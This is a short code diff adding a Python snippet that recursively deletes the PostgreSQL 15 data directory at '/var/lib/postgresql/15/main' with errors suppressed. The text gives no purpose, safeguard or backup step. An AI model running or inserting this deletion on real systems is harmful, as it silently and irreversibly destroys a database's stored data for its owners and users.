@@ -1,0 +1,4 @@
+import shutil
+
+DATA = "/var/lib/postgresql/15/main"
+shutil.rmtree(DATA, ignore_errors=True)
